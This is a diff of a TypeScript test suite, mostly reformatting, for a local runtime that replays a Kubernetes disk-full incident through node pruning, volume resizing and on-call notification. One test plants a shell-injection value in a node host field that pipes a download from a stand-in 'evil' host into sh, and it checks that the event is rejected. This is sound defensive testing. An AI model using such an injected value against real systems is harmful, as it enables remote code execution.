@@ -14,7 +14,10 @@ import { renderJson, renderTimeline } from '../../cli/local/output.ts';
 import { type LocalRunResult, runLocal } from '../../cli/local/runner.ts';
 import { DETAIL_TYPES } from '../../events/detail-types.ts';
 
-const SEED = new URL('../../events/samples/seed-incident.jsonl', import.meta.url);
+const SEED = new URL(
+  '../../events/samples/seed-incident.jsonl',
+  import.meta.url
+);
 const NODE = 'ip-10-0-1-149.ec2.internal';
 
 const clientsOf = (result: LocalRunResult) => {
@@ -31,7 +34,8 @@ const clientsOf = (result: LocalRunResult) => {
   };
 };
 
-const types = (result: LocalRunResult) => result.busEvents.map((e) => e['detail-type']);
+const types = (result: LocalRunResult) =>
+  result.busEvents.map((e) => e['detail-type']);
 const ofType = (result: LocalRunResult, type: string) =>
   result.busEvents.filter((e) => e['detail-type'] === type);
 
@@ -48,9 +52,10 @@ describe('Feature: the local runtime replays the seed incident end to end', () =
 
   it('classifies the seed failure as disk_full on the seed node', () => {
     // Assess
-    const diskFull = ofType(result, DETAIL_TYPES.imagePullFailureClassified).filter(
-      (e) => e.detail.class === 'disk_full'
-    );
+    const diskFull = ofType(
+      result,
+      DETAIL_TYPES.imagePullFailureClassified
+    ).filter((e) => e.detail.class === 'disk_full');
     expect(diskFull).toHaveLength(1);
     expect(diskFull[0]?.detail).toMatchObject({
       node: { name: NODE },
@@ -74,9 +79,11 @@ describe('Feature: the local runtime replays the seed incident end to end', () =
     ];
     const seen = types(result).filter((t) => (order as string[]).includes(t));
     expect(seen).toEqual(order);
-    const completed = ofType(result, DETAIL_TYPES.nodePruneCompleted)[0]?.detail;
+    const completed = ofType(result, DETAIL_TYPES.nodePruneCompleted)[0]
+      ?.detail;
     expect(completed).toMatchObject({ status: 'Success', outcome: 'roll' });
-    expect((completed?.report as { bytesFreed: number }).bytesFreed).toBeGreaterThan(0);
+    const report = completed?.report as { bytesFreed: number } | undefined;
+    expect(report?.bytesFreed).toBeGreaterThan(0);
     const roll = ofType(result, DETAIL_TYPES.volumeRollStarted)[0]?.detail;
     expect(roll).toMatchObject({
       oldSizeGiB: 20,
@@ -97,17 +104,27 @@ describe('Feature: the local runtime replays the seed incident end to end', () =
 
     // Act
     const out = await ec2.send(
-      new DescribeLaunchTemplateVersionsCommand({ LaunchTemplateId: node?.launchTemplateId, Versions: ['1', '2'] })
+      new DescribeLaunchTemplateVersionsCommand({
+        LaunchTemplateId: node?.launchTemplateId,
+        Versions: ['1', '2'],
+      })
     );
 
     // Assess
     const [v1, v2] = [1, 2].map(
-      (n) => out.LaunchTemplateVersions?.find((v) => v.VersionNumber === n)?.LaunchTemplateData
+      (n) =>
+        out.LaunchTemplateVersions?.find((v) => v.VersionNumber === n)
+          ?.LaunchTemplateData
     );
     const [root] = blockDevicesOf(result.fleet.nodes[0] as never);
     expect(v1?.BlockDeviceMappings).toEqual([root]);
-    expect(v2?.BlockDeviceMappings).toEqual([{ ...root, Ebs: { ...root?.Ebs, VolumeSize: 100 } }]);
-    expect({ ...v2, BlockDeviceMappings: undefined }).toEqual({ ...v1, BlockDeviceMappings: undefined });
+    expect(v2?.BlockDeviceMappings).toEqual([
+      { ...root, Ebs: { ...root?.Ebs, VolumeSize: 100 } },
+    ]);
+    expect({ ...v2, BlockDeviceMappings: undefined }).toEqual({
+      ...v1,
+      BlockDeviceMappings: undefined,
+    });
   });
 
   it('sent one SSM command, kept a resolved incident with its timeline, and told on-call', async () => {
@@ -117,14 +134,21 @@ describe('Feature: the local runtime replays the seed incident end to end', () =
     // Act
     const commands = await ssm.send(new ListCommandsCommand({}));
     const incident = await documents.send(
-      new GetCommand({ TableName: LOCAL_NAMES.table, Key: { pk: `INCIDENT#live#gpu-inference#${NODE}` } })
+      new GetCommand({
+        TableName: LOCAL_NAMES.table,
+        Key: { pk: `INCIDENT#live#gpu-inference#${NODE}` },
+      })
     );
 
     // Assess
-    expect(commands.Commands?.map((c) => c.DocumentName)).toEqual([LOCAL_NAMES.pruneDocument]);
+    expect(commands.Commands?.map((c) => c.DocumentName)).toEqual([
+      LOCAL_NAMES.pruneDocument,
+    ]);
     expect(commands.Commands?.[0]?.Parameters).toEqual({ DryRun: ['false'] });
     expect(incident.Item?.status).toBe('resolved');
-    expect(incident.Item?.record.timeline.map((t: { step: string }) => t.step)).toEqual([
+    expect(
+      incident.Item?.record.timeline.map((t: { step: string }) => t.step)
+    ).toEqual([
       'classified',
       'prune-requested',
       'prune-completed',
@@ -144,18 +168,31 @@ describe('Feature: the local runtime replays the seed incident end to end', () =
     expect(new Set(chatbot.map((c) => c.metadata.threadId)).size).toBe(1);
   });
 
-  it('says what it filled in moto\'s place, and prints both outputs', () => {
+  it("says what it filled in moto's place, and prints both outputs", () => {
     // Act
     const text = renderTimeline(result, 'seed');
-    const json = renderJson(result).split('\n').map((l) => JSON.parse(l));
+    const json = renderJson(result)
+      .split('\n')
+      .map((l) => JSON.parse(l));
 
     // Assess
-    expect(result.notes.some((n) => /moto runs no commands/.test(n.text))).toBe(true);
-    expect(result.notes.some((n) => /UpdateNodegroupVersion .* answered in-process/.test(n.text))).toBe(true);
+    expect(result.notes.some((n) => /moto runs no commands/.test(n.text))).toBe(
+      true
+    );
+    expect(
+      result.notes.some((n) =>
+        /UpdateNodegroupVersion .* answered in-process/.test(n.text)
+      )
+    ).toBe(true);
     expect(text).toContain('SIMULATED node');
     expect(text).toContain('/dev/xvda 20 GiB → 100 GiB');
     expect(json).toHaveLength(result.busEvents.length);
-    expect(Object.keys(json[0] ?? {})).toEqual(['time', 'source', 'detail-type', 'detail']);
+    expect(Object.keys(json[0] ?? {})).toEqual([
+      'time',
+      'source',
+      'detail-type',
+      'detail',
+    ]);
   });
 });
 
@@ -173,9 +210,13 @@ describe('Feature: the same seed events three times prune once and roll once', (
       expect(ofType(result, DETAIL_TYPES.volumeRollStarted)).toHaveLength(1);
       expect(ofType(result, DETAIL_TYPES.incidentOpened)).toHaveLength(1);
       const { ssm, ec2 } = clientsOf(result);
-      expect((await ssm.send(new ListCommandsCommand({}))).Commands).toHaveLength(1);
+      expect(
+        (await ssm.send(new ListCommandsCommand({}))).Commands
+      ).toHaveLength(1);
       const versions = await ec2.send(
-        new DescribeLaunchTemplateVersionsCommand({ LaunchTemplateId: result.nodes[0]?.launchTemplateId })
+        new DescribeLaunchTemplateVersionsCommand({
+          LaunchTemplateId: result.nodes[0]?.launchTemplateId,
+        })
       );
       expect(versions.LaunchTemplateVersions).toHaveLength(2);
     } finally {
@@ -189,8 +230,14 @@ describe('Feature: malformed events are dead-lettered with the reason; the rest 
     // Prepare
     const seed = await readFile(SEED, 'utf8');
     const hostile = JSON.parse(seed.split('\n')[5] as string);
-    hostile.source.host = 'ip-10-0-1-149.ec2.internal;curl${IFS}evil|sh';
-    const wrongShape = { kind: 'Event', reason: 'Failed', type: 'Warning', message: 'no metadata at all' };
+    // A shell would expand this; Kubernetes would never name a node so.
+    hostile.source.host = `ip-10-0-1-149.ec2.internal;curl$\{IFS}evil|sh`;
+    const wrongShape = {
+      kind: 'Event',
+      reason: 'Failed',
+      type: 'Warning',
+      message: 'no metadata at all',
+    };
     const input = [
       '{this is not json',
       JSON.stringify(wrongShape),
@@ -204,12 +251,22 @@ describe('Feature: malformed events are dead-lettered with the reason; the rest 
     // Assess
     const reasons = result.deadLetters.map((d) => `${d.queue}: ${d.reason}`);
     expect(reasons).toHaveLength(3);
-    expect(reasons).toContainEqual(expect.stringMatching(/^forwarder: line 1: line is not JSON/));
-    expect(reasons).toContainEqual(expect.stringMatching(/^classify: the event does not match its contract: .*metadata/));
     expect(reasons).toContainEqual(
-      expect.stringMatching(/^classify: the event does not match its contract: .*host: node name must be an RFC 1123 DNS subdomain/)
+      expect.stringMatching(/^forwarder: line 1: line is not JSON/)
+    );
+    expect(reasons).toContainEqual(
+      expect.stringMatching(
+        /^classify: the event does not match its contract: .*metadata/
+      )
+    );
+    expect(reasons).toContainEqual(
+      expect.stringMatching(
+        /^classify: the event does not match its contract: .*host: node name must be an RFC 1123 DNS subdomain/
+      )
     );
     expect(ofType(result, DETAIL_TYPES.incidentResolved)).toHaveLength(1);
-    expect(JSON.stringify(ofType(result, DETAIL_TYPES.nodePruneRequested))).not.toContain('curl');
+    expect(
+      JSON.stringify(ofType(result, DETAIL_TYPES.nodePruneRequested))
+    ).not.toContain('curl');
   });
 });
